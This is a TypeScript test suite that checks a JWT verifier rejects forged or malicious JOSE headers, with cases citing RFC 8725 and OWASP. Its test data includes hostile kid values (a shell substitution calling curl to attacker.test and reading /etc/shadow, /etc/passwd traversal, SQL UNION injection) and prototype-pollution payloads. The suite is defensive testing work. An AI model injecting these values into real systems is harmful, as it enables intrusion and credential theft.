import { describe, expect, it } from 'vitest'
import { authFor, issuerForTest } from '../setup.js'
import { AUDIENCE, b64, segments, useTarget, verdictFor } from './support.js'

// JOSE header attacks: RFC 7515 §4.1 (header parameters), RFC 8725 §3.10 (do not trust received claims:
// kid/jku/x5u/jwk), §3.11 (explicit typing), RFC 7516 (JWE), RFC 7797 (b64), OWASP JWT cheat sheet.

const target = useTarget({ algs: ['RS512', 'ES256'] })

describe('kid tricks — RFC 8725 §3.10, OWASP "kid injection"', () => {
  it.each([
    ['path traversal', '../../../../../../dev/null'],
    ['absolute path', '/etc/passwd'],
    ['SQL injection', "' UNION SELECT 'attacker-secret' -- "],
    ['shell metacharacters', '$(curl attacker.test)|cat /etc/shadow'],
    ['URL', 'https://attacker.test/jwks.json'],
    ['prototype name', '__proto__'],
    ['NUL byte', `${'k'}\u0000`],
  ])('treats a %s kid as an unknown key id, nothing more', async (_name, kid) => {
    const { issuer, auth, claims } = target()
    const token = issuer.signRaw({ alg: 'RS512', kid }, claims(), { signature: 'AAAA' })
    expect(await verdictFor(auth, token)).toMatch(/^token_(key_unknown|signature_invalid)$/)
  })

  it.each([
    ['a number', 42],
    ['an object (CVE-2022-23529 class: attacker-shaped objects never reach key handling)', { toString: 'x' }],
    ['an array', ['a', 'b']],
    ['null', null],
    ['a boolean', true],
    ['an empty string', ''],
    ['a huge string (257 characters)', 'k'.repeat(257)],
    ['a 6,000-character string', 'k'.repeat(6000)],
  ])('refuses a kid that is %s as malformed', async (_name, kid) => {
    const { issuer, auth, claims } = target()
    const token = issuer.signRaw({ alg: 'RS512', kid }, claims(), { key: issuer.key('RS512') })
    // The 6,000-character kid makes the token larger than maxTokenBytes, which is refused first.
    expect(await verdictFor(auth, token)).toMatch(/^token_(malformed|too_large)$/)
  })

  it('costs the issuer at most one key-set fetch per cooldown for a storm of random kids (RFC 8725 §3.10, DoS)', async () => {
    const issuer = await issuerForTest({ algs: ['ES256'] })
    const auth = authFor(issuer, {}, { rateLimit: { enabled: false } })
    await auth.ready()
    issuer.resetCounts()
    const now = Math.floor(Date.now() / 1000)
    const claims = { iss: issuer.url, aud: AUDIENCE, sub: 'x', exp: now + 60 }
    const verdicts = await Promise.all(
      Array.from({ length: 60 }, (_, i) =>
        verdictFor(auth, issuer.signRaw({ alg: 'ES256', kid: `storm-${i}` }, claims, { signature: 'AAAA' })),
      ),
    )
    expect(new Set(verdicts)).toEqual(new Set(['token_key_unknown']))
    expect(issuer.counts.jwks).toBeLessThanOrEqual(1)
  })
})

describe('header-supplied keys are never trusted — RFC 8725 §3.10, RFC 7515 §4.1.2–4.1.6', () => {
  it('never fetches a jku pointing at the attacker’s key set', async () => {
    const { issuer, auth, claims } = target()
    const attacker = await issuerForTest({ algs: ['RS512'] })
    const key = attacker.key('RS512')
    const token = issuer.signRaw({ alg: 'RS512', kid: key.kid, jku: attacker.jwksUri }, claims(), { key })
    expect(await verdictFor(auth, token)).toBe('token_key_unknown')
    expect(attacker.counts.jwks + attacker.counts.discovery).toBe(0)
  })

  it('never fetches an x5u pointing at the attacker', async () => {
    const { issuer, auth, claims } = target()
    const attacker = await issuerForTest({ algs: ['RS512'] })
    const key = attacker.key('RS512')
    const token = issuer.signRaw({ alg: 'RS512', kid: key.kid, x5u: attacker.jwksUri }, claims(), { key })
    expect(await verdictFor(auth, token)).toBe('token_key_unknown')
    expect(attacker.counts.jwks + attacker.counts.discovery).toBe(0)
  })

  it('ignores an embedded jwk (CVE-2018-0114 class: the token brings its own key)', async () => {
    const { issuer, auth, claims } = target()
    const attacker = await issuerForTest({ algs: ['ES256'] })
    const key = attacker.key('ES256')
    const token = issuer.signRaw({ alg: 'ES256', jwk: key.publicJwk }, claims(), { key })
    // No kid: the issuer's single kid-less-matching ES256 key is tried, and the attacker's signature fails.
    expect(await verdictFor(auth, token)).toMatch(/^token_(key_unknown|signature_invalid)$/)
  })

  it('ignores an embedded x5c chain carrying the attacker’s key', async () => {
    const { issuer, auth, claims } = target()
    const attacker = await issuerForTest({ algs: ['RS512'] })
    const key = attacker.key('RS512')
    const der = key.publicKey.export({ type: 'spki', format: 'der' }).toString('base64')
    const token = issuer.signRaw({ alg: 'RS512', x5c: [der], x5t: 'AAAA' }, claims(), { key })
    expect(await verdictFor(auth, token)).toMatch(/^token_(key_unknown|signature_invalid)$/)
  })

  it('lets none of jwk/jku/x5u/x5c change which key verifies a genuine token', async () => {
    const { issuer, auth, claims } = target()
    const attacker = await issuerForTest({ algs: ['RS512'] })
    const real = issuer.key('RS512')
    const header = {
      alg: 'RS512',
      kid: real.kid,
      jwk: attacker.key('RS512').publicJwk,
      jku: attacker.jwksUri,
      x5u: attacker.jwksUri,
    }
    expect(await verdictFor(auth, issuer.signRaw(header, claims(), { key: real }))).toBe('ok')
    expect(attacker.counts.jwks).toBe(0)
  })
})

describe('extensions and encodings Portcullis does not implement are refused — RFC 7515 §4.1.11, RFC 7797', () => {
  it.each([
    ['crit naming a registered header', { crit: ['exp'], exp: 1 }],
    ['crit naming an unknown extension', { crit: ['http://attacker.test/skip-checks'] }],
    ['an empty crit list (RFC 7515 §4.1.11 forbids it)', { crit: [] }],
    ['b64:false with crit (RFC 7797 unencoded payload)', { crit: ['b64'], b64: false }],
    ['b64:false without crit', { b64: false }],
    ['zip on a JWS (RFC 7516 §4.1.3: JWE only; RFC 8725 §3.6)', { zip: 'DEF' }],
    ['enc on a three-part token (a JWE header on a JWS)', { enc: 'A256GCM' }],
  ])('refuses %s', async (_name, extra) => {
    const { issuer, auth, claims } = target()
    const key = issuer.key('RS512')
    const token = issuer.signRaw({ alg: 'RS512', kid: key.kid, ...extra }, claims(), { key })
    expect(await verdictFor(auth, token)).toBe('token_unsupported')
  })

  it('refuses a five-part JWE (RFC 7516 §9: tell JWS and JWE apart by the number of parts)', async () => {
    const { auth } = target()
    const jwe = `${b64({ alg: 'RSA-OAEP-256', enc: 'A256GCM', kid: 'x' })}.${b64('k')}.${b64('iv')}.${b64('ct')}.${b64('tag')}`
    expect(await verdictFor(auth, jwe)).toBe('token_unsupported')
  })

  it('refuses alg dir / RSA-OAEP in a three-part token (key management algorithms are not JWS algorithms)', async () => {
    const { issuer, auth, claims } = target()
    const token = issuer.signRaw({ alg: 'dir', enc: 'A128GCM' }, claims(), { signature: 'AAAA' })
    expect(await verdictFor(auth, token)).toMatch(/^token_(unsupported|algorithm_not_allowed)$/)
  })
})

describe('nested tokens — RFC 7519 §5.2 / §7.2 step 8 (cty: JWT)', () => {
  it('does not unwrap a nested JWT whose outer signature is junk', async () => {
    const { issuer, auth } = target()
    const inner = await issuer.sign({ sub: 'alice' })
    const outer = issuer.signRaw({ alg: 'RS512', kid: issuer.key('RS512').kid, cty: 'JWT' }, inner, {
      signature: 'AAAA',
    })
    expect(await verdictFor(auth, outer)).toBe('token_malformed')
  })

  it('does not accept a validly signed outer token whose payload is another JWT', async () => {
    const { issuer, auth } = target()
    const inner = await issuer.sign({ sub: 'alice' })
    const key = issuer.key('RS512')
    const outer = issuer.signRaw({ alg: 'RS512', kid: key.kid, cty: 'JWT' }, inner, { key })
    expect(await verdictFor(auth, outer)).toBe('token_malformed')
  })
})

describe('explicit typing — RFC 8725 §3.11, RFC 9068 §4', () => {
  it('refuses an ID token (typ JWT) where access tokens (typ at+jwt) are required', async () => {
    const { issuer } = target()
    const auth = authFor(issuer, { typ: 'at+jwt' }, { rateLimit: { enabled: false } })
    expect(await verdictFor(auth, await issuer.sign({}, { header: { typ: 'JWT' } }))).toBe(
      'token_type_invalid',
    )
    expect(await verdictFor(auth, await issuer.sign({}, { header: { typ: undefined } }))).toBe(
      'token_type_invalid',
    )
  })

  it('compares typ as RFC 7515 §4.1.9 says (case-insensitive, application/ optional) and nothing looser', async () => {
    const { issuer } = target()
    const auth = authFor(issuer, { typ: 'at+jwt' }, { rateLimit: { enabled: false } })
    for (const typ of ['at+jwt', 'AT+JWT', 'application/at+jwt']) {
      expect(await verdictFor(auth, await issuer.sign({}, { header: { typ } }))).toBe('ok')
    }
    for (const typ of ['at+jwt ', 'at+jwt\u200b', 'application/at+jwt;x=1', 'xat+jwt', 'at+jwt+jwt']) {
      expect(await verdictFor(auth, await issuer.sign({}, { header: { typ } }))).toBe('token_type_invalid')
    }
  })

  it('refuses a typ that is not a string (RFC 7515 §4.1.9)', async () => {
    const { issuer, auth } = target()
    expect(await verdictFor(auth, await issuer.sign({}, { header: { typ: ['at+jwt'] } }))).toBe(
      'token_malformed',
    )
  })
})

describe('header JSON tricks — RFC 7515 §4 (duplicate names), RFC 8259', () => {
  it('uses one parse for the header: a later duplicate alg "none" wins and is refused', async () => {
    const { issuer, auth, claims } = target()
    const key = issuer.key('RS512')
    const header = `{"alg":"RS512","kid":"${key.kid}","alg":"none"}`
    const token = issuer.signRaw(header, claims(), { key })
    expect(await verdictFor(auth, token)).toBe('token_algorithm_not_allowed')
  })

  it('uses one parse for the header: a later duplicate kid of an unknown key wins', async () => {
    const { issuer, auth, claims } = target()
    const key = issuer.key('RS512')
    const header = `{"alg":"RS512","kid":"${key.kid}","kid":"attacker-kid"}`
    // Signed by the real key: a verifier that looked up the first kid would accept it.
    const token = issuer.signRaw(header, claims(), { key })
    expect(await verdictFor(auth, token)).toBe('token_key_unknown')
  })

  it.each([
    ['a JSON array', '["RS512"]'],
    ['a JSON string', '"RS512"'],
    ['null', 'null'],
    ['not JSON', "{alg:'RS512'}"],
    ['JSON with a byte-order mark', '\ufeff{"alg":"RS512"}'],
  ])('refuses a header that is %s', async (_name, header) => {
    const { issuer, auth, claims } = target()
    const token = issuer.signRaw(header, claims(), { key: issuer.key('RS512') })
    expect(await verdictFor(auth, token)).toBe('token_malformed')
  })

  it('keeps __proto__ members in header and payload inert (prototype pollution, OWASP)', async () => {
    const { issuer, auth } = target()
    const key = issuer.key('RS512')
    const now = Math.floor(Date.now() / 1000)
    const header = `{"alg":"RS512","kid":"${key.kid}","__proto__":{"crit":["x"],"polluted":true}}`
    const payload = `{"iss":"${issuer.url}","aud":"${AUDIENCE}","sub":"mallory","exp":${now + 60},"__proto__":{"scope":"admin","polluted":true}}`
    const token = issuer.signRaw(header, payload, { key })
    expect(await verdictFor(auth, token, { scopes: ['admin'] })).toBe('insufficient_scope')
    expect(({} as Record<string, unknown>).polluted).toBeUndefined()
    expect(segments(token)).toHaveLength(3)
  })
})
